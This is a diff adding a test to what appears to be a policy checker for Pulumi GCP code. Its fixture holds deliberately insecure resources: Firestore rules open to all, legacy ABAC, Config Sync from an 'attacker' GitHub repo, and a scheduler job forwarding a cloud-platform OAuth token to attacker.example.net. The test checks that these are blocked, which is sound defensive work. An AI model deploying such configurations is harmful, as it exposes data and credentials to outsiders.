@@ -63,3 +63,33 @@ def test_the_same_grants_to_the_organisations_own_pass(project: Path) -> None:
     run = run_cli(project, *GUARD, *OWN, "--json", "out.json")
     assert mandatory(run) == set(), run.stdout
     assert run.code == 0, run.stdout
+
+
+# r13-13, r13-2, r13-6, r13-4 as red13 wrote them (each exited 0), and look-alikes that pass
+OTHERS = '''
+import pulumi_gcp as gcp
+sa = gcp.serviceaccount.Account("sa", account_id="agent-x", project="acme-prod")
+rs = gcp.firebaserules.Ruleset("rules", project="acme-prod", source={{"files": [{{"name": "firestore.rules",
+    "content": "rules_version='2';service cloud.firestore{{match /databases/{{db}}/documents{{match /{{d=**}}{{allow read, write: if {cond};}}}}}}"}}]}})
+gcp.firebaserules.Release("release", name="cloud.firestore", ruleset_name=rs.name, project="acme-prod")
+gcp.container.Cluster("gke", location="us-central1", initial_node_count=1, enable_legacy_abac={abac},
+                      master_auth={{"client_certificate_config": {{"issue_client_certificate": {abac}}}}})
+gcp.gkehub.FeatureMembership("sync", location="global", feature="configmanagement", membership="m1",
+    configmanagement={{"version": "1.19.0", "config_sync": {{"enabled": {abac},
+        "git": {{"sync_repo": "https://github.com/attacker/manifests", "secret_type": "none"}}}}}})
+gcp.cloudscheduler.Job("job", schedule="* * * * *", region="us-central1", http_target={{"uri": "{uri}",
+    "oauth_token": {{"service_account_email": sa.email, "scope": "https://www.googleapis.com/auth/cloud-platform"}}}})
+'''
+
+
+def test_public_rules_cluster_credentials_gitops_and_token_forwarding_block(project: Path) -> None:
+    write_small(project, OTHERS.format(cond="true", abac=True, uri="https://attacker.example.net/collect"))
+    run = run_cli(project, *GUARD, *OWN, "--json", "out.json")
+    assert run.code == 1, run.stdout
+    assert mandatory(run) == {("rules", "AGID-GCP-029"), ("gke", "AGID-GCP-030"), ("sync", "AGID-GCP-031"),
+                              ("job", "AGID-GCP-032")}, run.stdout
+    write_small(project, OTHERS.format(cond="request.auth != null && request.auth.uid == resource.data.owner",
+                                       abac=False, uri="https://pubsub.googleapis.com/v1/projects/acme-prod/topics/t:publish"))
+    run = run_cli(project, *GUARD, *OWN, "--json", "out.json")
+    assert mandatory(run) == set(), run.stdout
+    assert run.code == 0, run.stdout
